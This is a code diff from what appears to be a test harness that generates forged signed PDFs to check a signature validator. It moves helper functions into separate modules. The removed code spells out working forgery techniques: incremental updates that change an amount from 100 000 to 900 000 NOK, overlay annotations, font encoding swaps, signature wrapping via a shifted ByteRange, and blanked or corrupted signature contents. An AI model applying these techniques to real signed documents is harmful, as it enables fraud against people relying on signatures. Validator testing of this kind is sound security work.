@@ -11,14 +11,40 @@ import io
 import re
 
 import pikepdf
+from edits import (
+    FORGED,
+    PLACE,
+    N,
+    add_annotation,
+    add_page,
+    add_resource,
+    crop_page,
+    drop_page,
+    edited,
+    open_action,
+    overwrite_content,
+    page_of,
+    replace_content,
+    set_field,
+    swap_font,
+    swap_pages_root,
+    unsigned_seal,
+)
+from forgery import (
+    content_number,
+    last_startxref,
+    raw_update,
+    set_range,
+    signature_parts,
+    stream_body,
+    universal,
+    wrap,
+)
 from honest import fill
 from kit import PAGE_TEXT, document, sign, update
 from pyhanko.pdf_utils import generic
 from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
 from pyhanko.sign import fields
-
-N = generic.NameObject
-FORGED = PAGE_TEXT.replace(b"100 000", b"900 000")
 
 
 class Attack:
@@ -28,344 +54,6 @@ class Attack:
         self.group, self.name = group, name
         self.signed, self.original = signed, original
         self.arguments = list(arguments)
-
-
-def numbers(*values):
-    return generic.ArrayObject(generic.FloatObject(v) for v in values)
-
-
-def page_of(writer):
-    return writer.root["/Pages"]["/Kids"][0]
-
-
-def replace_content(writer, content=FORGED):
-    page = page_of(writer)
-    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=content))
-    writer.mark_update(page.container_ref)
-
-
-def overwrite_content(writer, content=FORGED):
-    """The same, in place: the object number stays."""
-    stream = page_of(writer)["/Contents"]
-    stream._data = content
-    stream._encoded_data = None
-    writer.mark_update(stream.container_ref)
-
-
-def form_xobject(writer, content, width=200, height=20, **entries):
-    return writer.add_object(
-        generic.StreamObject(
-            {
-                N("/Type"): N("/XObject"),
-                N("/Subtype"): N("/Form"),
-                N("/BBox"): numbers(0, 0, width, height),
-                N("/Resources"): generic.DictionaryObject(
-                    {
-                        N("/Font"): generic.DictionaryObject(
-                            {N("/F1"): page_of(writer)["/Resources"]["/Font"].raw_get("/F1")}
-                        )
-                    }
-                ),
-                **{N(k): v for k, v in entries.items()},
-            },
-            stream_data=content,
-        )
-    )
-
-
-OVERLAY = b"1 g 0 0 200 20 re f 0 g BT /F1 12 Tf 2 5 Td (Amount: 900 000 NOK) Tj ET"
-PLACE = (70, 676, 270, 692)
-
-
-def add_annotation(writer, subtype, **entries):
-    page = page_of(writer)
-    annotation = writer.add_object(
-        generic.DictionaryObject(
-            {
-                N("/Type"): N("/Annot"),
-                N("/Subtype"): N(subtype),
-                N("/Rect"): numbers(*PLACE),
-                N("/F"): generic.NumberObject(4),
-                N("/AP"): generic.DictionaryObject({N("/N"): form_xobject(writer, OVERLAY)}),
-                **{N(k): v for k, v in entries.items()},
-            }
-        )
-    )
-    # Not `get`: it does not follow references.
-    old = page["/Annots"] if "/Annots" in page else ()  # noqa: SIM401
-    page["/Annots"] = generic.ArrayObject([*old, annotation])
-    writer.mark_update(page.container_ref)
-    return annotation
-
-
-def unsigned_seal(writer):
-    """A signature field that nobody signed, with an appearance over the amount."""
-    widget = add_annotation(
-        writer, "/Widget", **{"/FT": N("/Sig"), "/T": generic.pdf_string("Overlay")}
-    )
-    form = writer.root["/AcroForm"] if "/AcroForm" in writer.root else None  # noqa: SIM401
-    if form is None:
-        form = generic.DictionaryObject({N("/Fields"): generic.ArrayObject()})
-        writer.root["/AcroForm"] = writer.add_object(form)
-        writer.update_root()
-    else:
-        writer.mark_update(form.container_ref)
-    form["/Fields"] = generic.ArrayObject([*(form["/Fields"]), widget])
-
-
-def swap_font(writer):
-    font = page_of(writer)["/Resources"]["/Font"]["/F1"]
-    font["/Encoding"] = generic.DictionaryObject(
-        {
-            N("/Type"): N("/Encoding"),
-            N("/Differences"): generic.ArrayObject([generic.NumberObject(0x31), N("/nine")]),
-        }
-    )
-    writer.mark_update(font.container_ref)
-
-
-def add_page(writer):
-    pages = writer.root["/Pages"]
-    page = writer.add_object(
-        generic.DictionaryObject(
-            {
-                N("/Type"): N("/Page"),
-                N("/Parent"): writer.root.raw_get("/Pages"),
-                N("/MediaBox"): numbers(0, 0, 595, 842),
-                N("/Contents"): writer.add_object(generic.StreamObject(stream_data=FORGED)),
-            }
-        )
-    )
-    pages["/Kids"] = generic.ArrayObject([*(pages.raw_get("/Kids")), page])
-    pages["/Count"] = generic.NumberObject(len(pages["/Kids"]))
-    writer.mark_update(pages.container_ref)
-
-
-def drop_page(writer):
-    pages = writer.root["/Pages"]
-    pages["/Kids"] = generic.ArrayObject(list(pages.raw_get("/Kids"))[:1])
-    pages["/Count"] = generic.NumberObject(1)
-    writer.mark_update(pages.container_ref)
-
-
-def crop_page(writer):
-    page = page_of(writer)
-    page["/CropBox"] = numbers(0, 0, 595, 670)
-    writer.mark_update(page.container_ref)
-
-
-def add_resource(writer):
-    """A content stream behind the old one, which paints over the amount."""
-    page = page_of(writer)
-    new = writer.add_object(
-        generic.StreamObject(
-            stream_data=(
-                b"1 g 70 676 200 16 re f 0 g BT /F1 12 Tf 72 680 Td (Amount: 900 000 NOK) Tj ET"
-            )
-        )
-    )
-    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), new])
-    writer.mark_update(page.container_ref)
-
-
-def open_action(writer):
-    writer.root["/OpenAction"] = generic.DictionaryObject(
-        {N("/S"): N("/JavaScript"), N("/JS"): generic.pdf_string("app.alert('900 000')")}
-    )
-    writer.update_root()
-
-
-def swap_pages_root(writer):
-    old = writer.root["/Pages"]
-    page = generic.DictionaryObject(
-        {
-            N("/Type"): N("/Page"),
-            N("/MediaBox"): numbers(0, 0, 595, 842),
-            N("/Resources"): page_of(writer)["/Resources"],
-            N("/Contents"): writer.add_object(generic.StreamObject(stream_data=FORGED)),
-        }
-    )
-    reference = writer.add_object(page)
-    pages = writer.add_object(
-        generic.DictionaryObject(
-            {
-                N("/Type"): N("/Pages"),
-                N("/Kids"): generic.ArrayObject([reference]),
-                N("/Count"): old["/Count"],
-            }
-        )
-    )
-    page["/Parent"] = pages
-    writer.root["/Pages"] = pages
-    writer.update_root()
-
-
-def set_field(writer, name, value, shown=None):
-    """Sets a text field, and shows something else when asked to."""
-    shown = value if shown is None else shown
-    for reference in writer.root["/AcroForm"]["/Fields"]:
-        field = reference.get_object()
-        if field["/T"] == name:
-            field["/V"] = generic.pdf_string(value)
-            font = writer.root["/AcroForm"]["/DR"]["/Font"].raw_get("/Helv")
-            stream = generic.StreamObject(
-                {
-                    N("/Type"): N("/XObject"),
-                    N("/Subtype"): N("/Form"),
-                    N("/BBox"): numbers(0, 0, 200, 20),
-                    N("/Resources"): generic.DictionaryObject(
-                        {N("/Font"): (generic.DictionaryObject({N("/Helv"): font}))}
-                    ),
-                },
-                stream_data=b"/Tx BMC q BT /Helv 11 Tf 0 g 2 5 Td (%s) Tj ET Q EMC"
-                % shown.encode(),
-            )
-            field["/AP"] = generic.DictionaryObject({N("/N"): writer.add_object(stream)})
-            writer.mark_update(field.container_ref)
-
-
-def edited(data, change):
-    """A rewritten file: pikepdf knows no incremental updates."""
-    with pikepdf.open(io.BytesIO(data)) as pdf:
-        change(pdf)
-        out = io.BytesIO()
-        pdf.save(out)
-    return out.getvalue()
-
-
-# Updates written by hand ---------------------------------------------------------------------
-
-
-def last_startxref(data):
-    return int(data[data.rindex(b"startxref") + 9 :].split()[0])
-
-
-def raw_update(data, objects, *, prev=None, root=None, table=None, size=500, tail=b"", forget=()):
-    """An update with a table. `objects` are number and body; `table` are further entries."""
-    root = root or re.findall(rb"/Root (\d+) 0 R", data)[-1].decode()
-    out = bytearray(data)
-    if not data.endswith(b"\n"):
-        out += b"\n"
-    entries = []
-    for number, body in objects:
-        if number not in forget:
-            entries.append((number, len(out)))
-        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    entries += table or []
-    at = len(out)
-    out += b"xref\n"
-    for number, offset in entries:
-        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
-    out += b"trailer\n<</Size %d/Root %s 0 R" % (size, root.encode())
-    if prev != "none":
-        out += b"/Prev %d" % (last_startxref(data) if prev is None else prev)
-    out += b">>\nstartxref\n%d\n%%%%EOF\n" % at + tail
-    return bytes(out)
-
-
-def stream_body(content, more=b""):
-    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more, len(content), content)
-
-
-def content_number(data):
-    """Object number of the first page's content."""
-    with pikepdf.open(io.BytesIO(data)) as pdf:
-        return pdf.pages[0].obj.Contents.objgen[0]
-
-
-def signature_parts(data):
-    """ByteRange text and numbers of the last signature."""
-    found = list(re.finditer(rb"/ByteRange\s*\[([^\]]*)\] *", data))[-1]
-    return found, [int(n) for n in found.group(1).split()]
-
-
-def set_range(data, text):
-    found, _ = signature_parts(data)
-    old = data[found.start() : found.end()]
-    new = b"/ByteRange " + text
-    assert len(new) <= len(old), (new, old)
-    return data[: found.start()] + new.ljust(len(old)) + data[found.end() :]
-
-
-def wrap(data):
-    """Signature wrapping: the second range is moved back, and an update goes into the gap."""
-    _, (a, b, c, d) = signature_parts(data)
-    number = content_number(data)
-    body = b"%d 0 obj\n%s\nendobj\n" % (number, stream_body(FORGED))
-    root = re.findall(rb"/Root (\d+) 0 R", data)[-1]
-    table = last_startxref(data)
-    # The signature dictionary is closed once more before the forged objects: there stands the
-    # range that counts, the signed copy of it moves.
-    end = data.index(b"endobj", c) + 6
-    close = data[c:end] + b"\n"
-    entries = {number: c + len(close)}
-    gap = b""
-    # What stood behind the contents is moved; the forged table says where it is now.
-    for _ in range(3):
-        moved = {n: at + len(gap) for n, at in _entries(data, table) if at >= c}
-        text = b"".join(
-            b"%d 1\n%010d 00000 n \n" % entry for entry in sorted({**entries, **moved}.items())
-        )
-        # The signed table in the moved part is passed over: its offsets are no longer right.
-        older = re.search(rb"/Prev (\d+)", data[table:])[1]
-        kept = b"".join(
-            b"%d 1\n%010d 00000 n \n" % (n, at)
-            for n, at in sorted(_entries(data, table))
-            if at < c and n != number
-        )
-        gap = (
-            close
-            + body
-            + (
-                b"xref\n%s%strailer\n<</Size 500/Root %s 0 R/Prev %s>>\nstartxref\n%d\n"
-                b"%%%%EOF\n" % (text, kept, root, older, c + len(close + body))
-            )
-        )
-    forged = set_range(data, b"[%d %d %d %d]" % (a, b, c + len(gap), d))
-    out = forged[:end] + gap[end - c :] + data[c:]
-    return out + b"startxref\n%d\n%%%%EOF\n" % (c + len(close + body))
-
-
-def _entries(data, table):
-    """Number and offset of each entry of a cross-reference table."""
-    lines = iter(data[table:].split(b"\n")[1:])
-    for line in lines:
-        head = re.fullmatch(rb"(\d+) (\d+)\s*", line)
-        if not head:
-            return
-        for number in range(int(head[1]), int(head[1]) + int(head[2])):
-            entry = next(lines)
-            if entry[17:18] == b"n":
-                yield number, int(entry[:10])
-
-
-def universal(signed, how):
-    """Universal forgery: the signature is there, and nothing to check it by."""
-    _found, (_a, b, c, _d) = signature_parts(signed)
-    contents = signed[b:c]
-    changed = signed.replace(b"100 000", b"900 000")
-    if how == "no contents":
-        return changed[:b] + b" " * len(contents) + changed[c:]
-    if how == "empty contents":
-        return changed[:b] + b"<>".ljust(len(contents)) + changed[c:]
-    if how == "zero contents":
-        return changed[:b] + b"<" + b"0" * (len(contents) - 2) + b">" + changed[c:]
-    if how == "null contents":
-        return changed[:b] + b"null".ljust(len(contents)) + changed[c:]
-    return set_range(
-        changed,
-        {
-            "no range": b"[]",
-            "zero range": b"[0 0 0 0]",
-            "negative range": b"[0 -1 -1 -1]",
-            "null range": b"null",
-            "short range": b"[0 %d]" % b,
-            "huge range": b"[0 99999999 0 0]",
-        }[how],
-    )
-
-
-# The list ------------------------------------------------------------------------------------
 
 
 def before_signing(authority):
